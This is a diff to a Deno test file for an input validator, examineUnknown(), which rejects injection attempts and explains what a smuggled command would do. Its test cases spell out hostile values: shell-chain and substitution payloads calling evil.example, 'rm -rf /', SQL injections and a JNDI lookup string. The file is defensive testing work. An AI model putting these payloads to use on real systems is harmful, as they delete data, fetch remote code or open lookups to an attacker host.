@@ -17,6 +17,7 @@ Deno.test("examineUnknown() refuses what is unmistakable as a whole value", () =
     "unknown-shell-chain": ["a; rm -rf /", "a%3bcurl%20evil.example"],
     "unknown-shell-substitution": ["$(curl evil.example)"],
     "unknown-sql-condition": ["a' or 'b'='b", "a%27%20or%201=1--"],
+    "unknown-lookup": ["${jndi:ldap://evil.example/a}"],
     "unknown-sql-statement": ["1; drop table a"],
   };
   for (const [rule, values] of Object.entries(rules)) {
@@ -57,6 +58,20 @@ Deno.test("examineUnknown() lets ordinary values, private addresses and mentions
       ],
     ]
   ) assert.equal(examineUnknown(value), undefined, value);
+});
+
+Deno.test("examineUnknown() says what the command would do", () => {
+  const details: Readonly<Record<string, RegExp>> = {
+    "a; rm -rf /": /deletes$/,
+    "a; wget evil.example": /downloads/,
+    "a; sh -c 'b'": /runs code$/,
+    "a; touch /etc/b": /changes files/,
+    "a; cat /etc/hosts": /reads files/,
+    "a; sleep 9": /tries whether/,
+  };
+  for (const [value, detail] of Object.entries(details)) {
+    assert.match(examineUnknown(value)?.detail ?? "", detail, value);
+  }
 });
 
 Deno.test("examineUnknown() lets words and numbers pass in any order", () => {
